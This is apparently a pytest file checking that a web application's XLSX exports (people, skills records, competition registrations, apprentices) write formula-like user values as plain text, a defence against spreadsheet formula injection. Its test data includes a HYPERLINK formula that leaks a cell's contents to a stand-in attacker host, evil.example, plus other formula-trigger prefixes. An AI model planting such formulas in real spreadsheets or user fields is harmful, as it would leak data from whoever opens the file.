"""Issue 18.2: no cell of any export is a live formula, whatever a user saved."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.core.enums import District, OrgKind, Role
from app.core.xlsx import export_workbook
from tests import apprenticeship_factories as af
from tests import competition_factories as cf
from tests import factories

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
HOSTILE = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells(data: bytes) -> list:
    wb = load_workbook(BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_text(data: bytes, value: str) -> None:
    cells = [c for c in _cells(data) if isinstance(c.value, str) and value in c.value]
    assert cells, f"{value!r} not exported"
    assert all(c.data_type == "s" for c in cells), [(c.coordinate, c.data_type) for c in cells]
    assert not any(c.data_type == "f" for c in _cells(data))


@pytest.mark.parametrize("write_only", [False, True])
def test_the_helper_writes_formula_like_strings_as_text_and_leaves_numbers(write_only):
    wb = export_workbook(write_only=write_only)
    ws = wb.create_sheet("t") if write_only else wb.active
    ws.append([*HOSTILE, 42, "plain", -5])
    buf = BytesIO()
    wb.save(buf)
    cells = _cells(buf.getvalue())
    # (XML turns a CR into a line feed: the value is text either way.)
    assert [c.value for c in cells] == [*HOSTILE[:5], "\n=1", 42, "plain", -5]
    assert [c.data_type for c in cells] == ["s"] * 6 + ["n", "s", "n"]


def test_every_workbook_the_app_writes_comes_from_the_helper():
    root = Path(__file__).resolve().parents[2] / "app"
    offenders = [str(p) for p in root.rglob("*.py") if p.name != "xlsx.py"
                 and re.search(r"(?<![\w.])Workbook\(", p.read_text(encoding="utf-8"))]
    assert offenders == []


def test_people_export_and_skills_record_write_a_hostile_name_as_text(app, ctx, login_as):
    employer = factories.org(name="@恶意单位")
    person = factories.person(EVIL, employer)
    web = login_as(factories.municipal_official())
    _assert_text(web.get("/people/export.xlsx").get_data(), EVIL)
    _assert_text(web.get(f"/supervision/people/{person.id}/record.xlsx").get_data(), EVIL)
    _assert_text(web.get(f"/supervision/people/{person.id}/record.xlsx").get_data(), "@恶意单位")


def test_registration_and_apprentice_exports_write_a_hostile_name_as_text(app, ctx, login_as):
    c = af.cast(District.HUANGPU)
    af.policies()
    person = factories.person(EVIL, c.enterprise)
    organiser = factories.org(OrgKind.ENTERPRISE, District.HUANGPU)
    ev = cf.event(cf.competition(organiser))
    cf.registration(ev, person, c.enterprise)
    af.enrollment(c, person)
    web = login_as(factories.user(organiser, Role.ORGANIZER))
    _assert_text(web.get(f"/competitions/events/{ev.id}/export.xlsx").get_data(), EVIL)
    web = login_as(c.hr)
    _assert_text(web.get("/apprenticeships/export.xlsx").get_data(), EVIL)
